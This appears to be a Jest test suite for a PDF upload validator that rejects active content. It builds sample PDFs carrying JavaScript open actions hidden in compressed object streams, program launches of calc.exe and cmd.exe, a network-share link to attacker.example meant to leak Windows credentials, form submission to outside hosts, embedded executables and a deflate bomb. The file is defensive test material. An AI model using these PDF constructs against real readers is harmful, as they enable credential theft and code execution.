import { UPLOAD_FLOW_MESSAGES } from '@marketplace/contracts';
import { deflateSync, inflateSync } from 'node:zlib';
import { buildPdf, type ObjectStreamSpec, type PdfSpec } from '../../../test/support/pdf-builder';
import { type CheckLimits, PDF_CHECK_LIMITS, pdfActiveContentProblem } from './pdf-active-content';

const ACTIVE = UPLOAD_FLOW_MESSAGES.pdfActiveContent;
const UNREADABLE = UPLOAD_FLOW_MESSAGES.documentUnreadable;

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** A file on another machine: opening it sends the reader's Windows credentials there. */
const NETWORK_SHARE = String.raw`(\\\\attacker.example\\share\\cv.pdf)`;

/** A PDF whose page has one link doing `action` when clicked. */
const withLink = (action: string): PdfSpec => ({
  page: '/Annots [6 0 R]',
  objects: { 6: `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A ${action} >>` },
});

/** A PDF with one bookmark doing `action` when clicked. */
const withBookmark = (action: string): PdfSpec => ({
  catalog: '/Outlines 6 0 R',
  objects: {
    6: '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
    7: `<< /Title (Experience) /Parent 6 0 R /A ${action} >>`,
  },
});

/** A PDF whose catalog opens with the action in object 6, compressed in an object stream written as `options` say. */
const compressedOpenAction = (action: string, options: Omit<ObjectStreamSpec, 'numbers'> = {}): Buffer =>
  buildPdf({ catalog: '/OpenAction 6 0 R', objects: { 6: action }, objectStream: { numbers: [6], ...options } });

/** The data of the object stream in compressedOpenAction's files. */
function firstStreamData(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1');
  const start = text.indexOf('stream\n', text.indexOf('/First')) + 'stream\n'.length;
  return pdf.subarray(start, text.indexOf('\nendstream', start));
}

describe('pdfActiveContentProblem', () => {
  describe('accepts ordinary PDFs', () => {
    it.each<[string, PdfSpec]>([
      ['plain text', { text: 'Maya Patel, bookkeeper' }],
      ['text that only mentions the names', { text: 'JavaScript, /Launch planning, /OpenAction, EmbeddedFiles, XFA' }],
      ['opening at a page (a destination)', { catalog: '/OpenAction [3 0 R /Fit]' }],
      ['a GoTo open action', { catalog: '/OpenAction << /S /GoTo /D [3 0 R /FitH 792] >>' }],
      [
        'a GoTo open action chained to other GoTo actions',
        {
          catalog: '/OpenAction 6 0 R',
          objects: {
            6: '<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D (top) >> 7 0 R] >>',
            7: '<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>',
          },
        },
      ],
      ['a clickable web link', withLink('<< /S /URI /URI (https://www.linkedin.com/in/maya) >>')],
      ['a clickable e-mail link', withLink('<< /S /URI /URI (mailto:maya@example.com) >>')],
      ['a clickable relative link', withLink('<< /S /URI /URI (portfolio/index.html) >>')],
      ['a link to a page of the document', withLink('<< /S /GoTo /D [3 0 R /Fit] >>')],
      ['a bookmark to a page', withBookmark('<< /S /GoTo /D [3 0 R /XYZ 0 792 0] >>')],
      [
        'objects compressed in an object stream with the TIFF predictor',
        {
          catalog: '/OpenAction 6 0 R /Outlines 7 0 R',
          objects: { 6: '<< /S /GoTo /D [3 0 R /Fit] >>', 7: '<< /Type /Outlines /Count 0 >>' },
          objectStream: { numbers: [6, 7], predictorColumns: 8, typed: false, commentBeforeStream: true },
        },
      ],
    ])('%s', (_, spec) => {
      expect(pdfActiveContentProblem(buildPdf(spec))).toBeNull();
    });
  });

  describe('refuses JavaScript that opens with the document from a compressed object stream', () => {
    it.each<[string, Omit<ObjectStreamSpec, 'numbers'>]>([
      ['deflated', {}],
      ['without /Type /ObjStm', { typed: false }],
      ['with a comment before the stream keyword', { commentBeforeStream: true }],
      ['with /DecodeParms /Predictor 2', { predictorColumns: 8 }],
      ['all of these at once', { typed: false, commentBeforeStream: true, predictorColumns: 5 }],
    ])('%s', (_, options) => {
      const pdf = compressedOpenAction(SCRIPT, options);
      expect(pdf.toString('latin1')).not.toContain('JavaScript');
      expect(pdfActiveContentProblem(pdf)).toBe(ACTIVE);
    });

    it('even where inflating the stream alone does not show it (the predictor is applied after)', () => {
      const pdf = compressedOpenAction(SCRIPT, { predictorColumns: 8 });
      expect(inflateSync(firstStreamData(pdf)).toString('latin1')).not.toContain('JavaScript');
      expect(pdfActiveContentProblem(pdf)).toBe(ACTIVE);
    });

    it('and an object stream stored without a filter', () => {
      expect(pdfActiveContentProblem(compressedOpenAction(SCRIPT, { filter: null }))).toBe(ACTIVE);
    });
  });

  describe('refuses actions that run by themselves unless they jump inside the document', () => {
    it.each<[string, string]>([
      ['an open action that opens a web page', '/OpenAction << /S /URI /URI (https://tracker.example/opened) >>'],
      ['an open action that runs JavaScript', `/OpenAction ${SCRIPT}`],
      ['an open action spelt with #xx escapes', '/OpenAction << /S /J#61va#53cript /JS (app.alert\\(1\\)) >>'],
      ['an open action that launches a program', '/OpenAction << /S /Launch /F (calc.exe) >>'],
      [
        'an open action that opens a file on a network share',
        `/OpenAction << /S /GoToR /F ${NETWORK_SHARE} /D [0 /Fit] >>`,
      ],
      ['an open action that prints', '/OpenAction << /S /Named /N /Print >>'],
      ['a GoTo open action whose /Next runs JavaScript', `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT} >>`],
      [
        'a GoTo open action whose /Next array opens a web page',
        '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D (top) >> << /S /URI /URI (https://tracker.example) >>] >>',
      ],
      [
        'a document action that submits the form when closing',
        '/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://collector.example/form) >> >> >>',
      ],
      [
        'a document action that imports form data before printing',
        '/AA << /WP << /S /ImportData /F (answers.fdf) >> >>',
      ],
      [
        'a document action that opens a web page after saving',
        '/AA << /DS << /S /URI /URI (https://tracker.example) >> >>',
      ],
    ])('%s', (_, catalog) => {
      expect(pdfActiveContentProblem(buildPdf({ catalog }))).toBe(ACTIVE);
    });

    it('refuses an open action kept in an object of its own', () => {
      const pdf = buildPdf({
        catalog: '/OpenAction 6 0 R',
        objects: { 6: '<< /S /URI /URI (https://tracker.example) >>' },
      });
      expect(pdfActiveContentProblem(pdf)).toBe(ACTIVE);
    });

    it('refuses a page action that opens a web page when the page opens', () => {
      const pdf = buildPdf({ page: '/AA << /O << /S /URI /URI (https://tracker.example/page) >> >>' });
      expect(pdfActiveContentProblem(pdf)).toBe(ACTIVE);
    });

    it("refuses an annotation's action that runs when its page opens", () => {
      const pdf = buildPdf({
        page: '/Annots [6 0 R]',
        objects: {
          6: '<< /Type /Annot /Subtype /Square /Rect [0 0 1 1] /AA << /PO 7 0 R >> >>',
          7: '<< /S /Hide /T (x) >>',
        },
      });
      expect(pdfActiveContentProblem(pdf)).toBe(ACTIVE);
    });

    it("refuses a form field's script", () => {
      const pdf = buildPdf({
        catalog: '/AcroForm << /Fields [6 0 R] >>',
        page: '/Annots [6 0 R]',
        objects: {
          6: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (salary) /Rect [72 600 300 620] /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> >> >>',
        },
      });
      expect(pdfActiveContentProblem(pdf)).toBe(ACTIVE);
    });
  });

  describe('refuses clicked actions that run code, post data or leave the document for another file', () => {
    it.each<[string, string]>([
      ['JavaScript', SCRIPT],
      ['launching a program', '<< /S /Launch /F (cmd.exe) >>'],
      ['a file on a network share', `<< /S /GoToR /F ${NETWORK_SHARE} /D [0 /Fit] >>`],
      ['an embedded document', '<< /S /GoToE /T << /R /C /N (attached) >> >>'],
      ['submitting a form', '<< /S /SubmitForm /F << /FS /URL /F (https://collector.example) >> >>'],
      ['importing form data', '<< /S /ImportData /F (answers.fdf) >>'],
      [
        'a web link that then launches a program',
        '<< /S /URI /URI (https://example.com) /Next << /S /Launch /F (calc.exe) >> >>',
      ],
      ['a link to a local file', '<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'],
      ['a link to a network path', `<< /S /URI /URI ${NETWORK_SHARE} >>`],
      ['a javascript: link', '<< /S /URI /URI ( javascript:alert\\(1\\)) >>'],
    ])('a link to %s', (_, action) => {
      expect(pdfActiveContentProblem(buildPdf(withLink(action)))).toBe(ACTIVE);
    });

    it('a bookmark that runs JavaScript', () => {
      expect(pdfActiveContentProblem(buildPdf(withBookmark(SCRIPT)))).toBe(ACTIVE);
    });
  });

  describe('refuses scripts, embedded files, rich media and XFA forms wherever they sit', () => {
    it.each<[string, PdfSpec]>([
      ['a script in the /Names tree', { catalog: `/Names << /JavaScript << /Names [(init) ${SCRIPT}] >> >>` }],
      ['an empty /Names /JavaScript tree', { catalog: '/Names << /JavaScript << /Names [] >> >>' }],
      ['embedded files', { catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }],
      [
        'a file attachment annotation',
        {
          page: '/Annots [6 0 R]',
          objects: {
            6: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >> >>',
            7: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
          },
        },
      ],
      ['rich media', { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' }],
      ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA [] >>' }],
      ['a /JS entry without an action type', { catalog: '/AA << /WC << /JS (app.alert\\(1\\)) >> >>' }],
    ])('%s', (_, spec) => {
      expect(pdfActiveContentProblem(buildPdf(spec))).toBe(ACTIVE);
    });
  });

  describe('reads what a reader would', () => {
    it('reads a file whose cross-reference offsets are wrong as pdf.js does, by scanning it', () => {
      const broken = (pdf: Buffer) =>
        Buffer.from(pdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1');
      expect(pdfActiveContentProblem(broken(buildPdf({ catalog: `/OpenAction ${SCRIPT}` })))).toBe(ACTIVE);
      expect(pdfActiveContentProblem(broken(buildPdf({ text: 'Fine after all' })))).toBeNull();
    });

    it('finds an action the cross-reference table leaves out, which a reader rebuilding the table would run', () => {
      const pdf = buildPdf({ catalog: '/OpenAction 6 0 R', objects: { 6: SCRIPT } }).toString('latin1');
      const rows = pdf.slice(pdf.indexOf('xref\n')).split('\n');
      rows[2 + 6] = '0000000000 65535 f ';
      const hidden = pdf.slice(0, pdf.indexOf('xref\n')) + rows.join('\n');
      expect(pdfActiveContentProblem(Buffer.from(hidden, 'latin1'))).toBe(ACTIVE);
    });
  });

  describe('refuses as unreadable', () => {
    it('a file pdf.js cannot open', () => {
      expect(pdfActiveContentProblem(Buffer.from('%PDF-1.7\nthis is no PDF body at all\n%%EOF\n', 'latin1'))).toBe(
        UNREADABLE,
      );
      expect(pdfActiveContentProblem(Buffer.alloc(0))).toBe(UNREADABLE);
    });

    it('an object stream whose data does not decode', () => {
      expect(pdfActiveContentProblem(compressedOpenAction(SCRIPT, { data: Buffer.from('not deflate data') }))).toBe(
        UNREADABLE,
      );
    });

    it('an object stream that inflates past the limit (a deflate bomb)', () => {
      const bomb = deflateSync(Buffer.alloc(17 * 1024 * 1024, 0x20));
      expect(bomb.length).toBeLessThan(100_000);
      expect(pdfActiveContentProblem(compressedOpenAction(SCRIPT, { data: bomb }))).toBe(UNREADABLE);
    });

    it('an object stream with an image or Brotli filter, whose decoders cannot be held to the limit', () => {
      expect(pdfActiveContentProblem(compressedOpenAction(SCRIPT, { filter: 'DCTDecode' }))).toBe(UNREADABLE);
      expect(pdfActiveContentProblem(compressedOpenAction(SCRIPT, { filter: 'BrotliDecode' }))).toBe(UNREADABLE);
    });

    describe('a file that takes more work than a check may spend', () => {
      /** Object 6 starts a chain of `length` arrays, each referring to the next. */
      const chain = (length: number): Buffer => {
        const objects: Record<number, string> = {};
        for (let number = 6; number < 6 + length; number++) objects[number] = `[${number + 1} 0 R]`;
        return buildPdf({ catalog: '/Chain 6 0 R', objects });
      };
      const within = (limits: Partial<CheckLimits>): CheckLimits => ({ ...PDF_CHECK_LIMITS, ...limits });

      it('more objects', () => {
        expect(pdfActiveContentProblem(chain(200), within({ objects: 300 }))).toBeNull();
        expect(pdfActiveContentProblem(chain(400), within({ objects: 300 }))).toBe(UNREADABLE);
      });

      it('more values', () => {
        const numbers = buildPdf({ catalog: `/Widths [${'1 '.repeat(5_000)}]` });
        expect(pdfActiveContentProblem(numbers, within({ values: 10_000 }))).toBeNull();
        expect(pdfActiveContentProblem(numbers, within({ values: 4_000 }))).toBe(UNREADABLE);
      });

      it('a longer chain of actions', () => {
        const next = (depth: number): string =>
          depth === 0 ? '<< /S /GoTo /D [3 0 R /Fit] >>' : `<< /S /GoTo /D [3 0 R /Fit] /Next ${next(depth - 1)} >>`;
        const pdf = buildPdf({ catalog: `/OpenAction ${next(50)}` });
        expect(pdfActiveContentProblem(pdf, within({ chainActions: 100 }))).toBeNull();
        expect(pdfActiveContentProblem(pdf, within({ chainActions: 20 }))).toBe(UNREADABLE);
      });

      it('more decoded bytes, in one stream or in all', () => {
        const pdf = compressedOpenAction('<< /S /GoTo /D [3 0 R /Fit] >>', {
          data: deflateSync(
            Buffer.concat([Buffer.from('6 0\n<< /S /GoTo /D [3 0 R /Fit] >>'), Buffer.alloc(100_000, 0x20)]),
          ),
        });
        expect(pdfActiveContentProblem(pdf)).toBeNull();
        expect(pdfActiveContentProblem(pdf, within({ decode: { streamBytes: 50_000, totalBytes: 1 << 30 } }))).toBe(
          UNREADABLE,
        );
        expect(pdfActiveContentProblem(pdf, within({ decode: { streamBytes: 1 << 30, totalBytes: 50_000 } }))).toBe(
          UNREADABLE,
        );
      });

      it('more time', () => {
        expect(pdfActiveContentProblem(chain(2_000), within({ timeMs: 0 }))).toBe(UNREADABLE);
      });
    });
  });
});
